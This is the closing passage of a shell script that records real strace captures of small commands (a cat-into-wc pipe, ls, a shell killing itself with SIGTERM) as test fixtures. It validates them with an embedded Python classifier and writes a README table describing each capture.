  fixture sh-pipe-f-ttt.strace -f -ttt -s 16 -- sh -c 'cat one | wc -l'
  fixture sh-pipe-f-n.strace -f -n -s 16 -- sh -c 'cat one | wc -l'
  fixture sh-pipe-f-qq.strace -f -qq -s 16 -- sh -c 'cat one | wc -l'
  fixture ls-nofork.strace -s 16 -- ls
  fixture sh-killed-f.strace -f -s 16 -- sh -c 'kill -TERM $$'
  "$PY" - "$WORK/aux" "$FIXTURES" <<'PYEOF'
import collections, glob, os, sys
sys.path.insert(0, sys.argv[1])
from strace_grammar import classify
bad = 0
for p in sorted(glob.glob(os.path.join(sys.argv[2], "*.strace"))):
    kinds = collections.Counter()
    for n, line in enumerate(open(p, encoding="utf-8", errors="replace").read().splitlines(), 1):
        k = classify(line)
        if k is None:
            bad += 1
            print(f"  unparseable {os.path.basename(p)}:{n}: {line[:120]}", file=sys.stderr)
        kinds[k] += 1
    print(f"  {os.path.basename(p):28s} " + " ".join(f"{k}={v}" for k, v in sorted(kinds.items(), key=str)))
sys.exit(1 if bad else 0)
PYEOF
  cat >"$FIXTURES/README.md" <<EOF
# Real strace captures for reader tests

Recorded by \`bash scripts/record-sample.sh --fixtures\` (strace ${STRACE_VERSION},
Linux ${KERNEL}, ${RECORDED_AT}) in a scratch directory holding two files,
with \`env -i PATH=... LC_ALL=C\`:

| file | strace options | command | notes |
| --- | --- | --- | --- |
| \`sh-pipe-f.strace\` | \`-f -s 16\` | \`sh -c 'cat one \| wc -l'\` | 3 pids, \`<unfinished ...>\`/\`<... resumed>\`, \`--- SIGCHLD\`, \`+++ exited with 0 +++\` |
| \`sh-pipe-f-ttt.strace\` | \`-f -ttt -s 16\` | same | epoch timestamps after the pid |
| \`sh-pipe-f-n.strace\` | \`-f -n -s 16\` | same | syscall numbers \`[  59]\` before the name; \`--- SIG\` and \`+++ exited\` lines carry one too (\`[ 231] +++ exited with 0 +++\`) |
| \`sh-pipe-f-qq.strace\` | \`-f -qq -s 16\` | same | as the dataset: no \`+++ exited\` lines |
| \`ls-nofork.strace\` | \`-s 16\` | \`ls\` | single process, no pid column |
| \`sh-killed-f.strace\` | \`-f -s 16\` | \`sh -c 'kill -TERM \$\$'\` | ends with \`--- SIGTERM\` and \`+++ killed by SIGTERM +++\` |

Unlike the dataset, the alignment padding before \` = \` is left as strace printed it;
only the uname(2) host name is replaced by \`localhost\`. Pids, addresses and
timings are whatever strace printed; re-recording changes them.
EOF
}

if [ "$DO_SAMPLE" = 1 ]; then
  record_sample
fi
if [ "$DO_FIXTURES" = 1 ]; then
  record_fixtures
fi
echo "record-sample: done"
